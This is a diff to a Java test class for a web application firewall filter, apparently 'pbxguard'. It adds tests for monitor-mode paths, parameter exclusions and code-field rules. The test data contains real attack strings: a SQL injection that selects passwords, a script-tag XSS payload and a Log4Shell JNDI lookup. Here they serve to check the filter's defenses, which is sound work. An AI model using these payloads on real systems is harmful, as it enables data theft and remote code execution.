@@ -10,6 +10,7 @@ import java.time.Duration;
 import java.util.List;
 import java.util.Locale;
 import java.util.Optional;
+import java.util.stream.Collectors;
 import java.util.zip.GZIPOutputStream;
 import org.awaitility.Awaitility;
 import org.jspecify.annotations.Nullable;
@@ -21,10 +22,12 @@ import org.junit.jupiter.api.TestInstance;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
+import org.pbxguard.core.Explanation;
 import org.pbxguard.core.Guard;
 import org.pbxguard.core.GuardSettings;
 import org.pbxguard.core.block.BlockRequest;
 import org.pbxguard.core.decision.Mode;
+import org.pbxguard.core.finding.Category;
 import org.pbxguard.core.journal.MemoryJournal;
 import org.pbxguard.core.net.IpAddress;
 import org.pbxguard.core.net.IpPrefix;
@@ -36,6 +39,10 @@ import org.pbxguard.servlet.body.BodySettings;
 import org.pbxguard.servlet.client.ProxyHeader;
 import org.pbxguard.servlet.login.LoginPath;
 import org.pbxguard.servlet.parse.PathPattern;
+import org.pbxguard.servlet.tuning.Exclusion;
+import org.pbxguard.servlet.tuning.FieldKind;
+import org.pbxguard.servlet.tuning.FieldRule;
+import org.pbxguard.servlet.tuning.ModeRule;
 
 /**
  * What an application may rely on behind the filter, and what never reaches it: the same in every
@@ -75,10 +82,14 @@ abstract class ContainerContract {
         512 << 10,
         List.of(new PathPattern("/body"), new PathPattern("/async")),
         List.of(),
+        List.of(new ModeRule(new PathPattern("/files/watched/*"), List.of(), Mode.MONITOR)),
         base.maxParameters(),
         true,
         true,
-        List.of(),
+        List.of(
+            new Exclusion(
+                new PathPattern("/files/notes/*"), "note", List.of(), List.of(Category.SQLI))),
+        List.of(new FieldRule(new PathPattern("/files/code/*"), "script", FieldKind.CODE)),
         BodySettings.defaults(),
         TextSettings.defaults());
   }
@@ -510,6 +521,49 @@ abstract class ContainerContract {
     assertThat(client().get("/params").statusCode()).isEqualTo(200);
     assertThat(client().get("/params", PROXY, "unknown").statusCode()).isEqualTo(200);
     assertThat(client().get("/params", PROXY, "hello").statusCode()).isEqualTo(400);
+  }
+
+  // What operators say
+
+  private static final String UNION = "1%27+union+select+password+from+users--";
+
+  private String passedBy() {
+    return guard().explain(IpAddress.parse(me).orElseThrow()).items().stream()
+        .map(Explanation.Item::passedBy)
+        .distinct()
+        .collect(Collectors.joining(";"));
+  }
+
+  /** Nothing changes for the application, the body behind a hostile head included. */
+  @Test
+  void post_attackOnAWatchedPath_arrivesWholeAndIsExplained() throws Exception {
+    for (int i = 0; i < 8; i++) {
+      assertThat(post("/files/watched/x?id=" + UNION, FORM, "b=2").body()).startsWith("b=2\n");
+    }
+
+    assertThat(passedBy()).contains("http.filter.modes /files/watched/* monitor");
+    assertThat(get("/params").statusCode()).isEqualTo(200);
+    assertThat(post("/params?id=" + UNION, FORM, "b=2").statusCode()).isEqualTo(403);
+  }
+
+  @Test
+  void post_excludedParameter_arrivesAndIsExplainedAndOthersAreRefused() throws Exception {
+    assertThat(post("/files/notes/1", FORM, "note=" + UNION).statusCode()).isEqualTo(200);
+
+    assertThat(passedBy()).isEqualTo("http.filter.exclusions /files/notes/* note sqli");
+    assertThat(post("/files/notes/1", FORM, "other=" + UNION).statusCode()).isEqualTo(403);
+    assertThat(post("/files/notes/1", FORM, "evil+note=" + UNION).statusCode()).isEqualTo(403);
+  }
+
+  @Test
+  void post_codeField_takesCodeAndRefusesLookups() throws Exception {
+    assertThat(post("/files/code/1", FORM, "script=" + UNION).statusCode()).isEqualTo(200);
+    assertThat(post("/files/code/1", FORM, "script=%3Cscript%3Ealert(1)%3C/script%3E").statusCode())
+        .isEqualTo(200);
+
+    assertThat(post("/files/code/1", FORM, "script=%24%7Bjndi:ldap://e.example/a%7D").statusCode())
+        .isEqualTo(403);
+    assertThat(post("/files/code/1", FORM, "name=" + UNION).statusCode()).isEqualTo(403);
   }
 
   private void block(String address) {
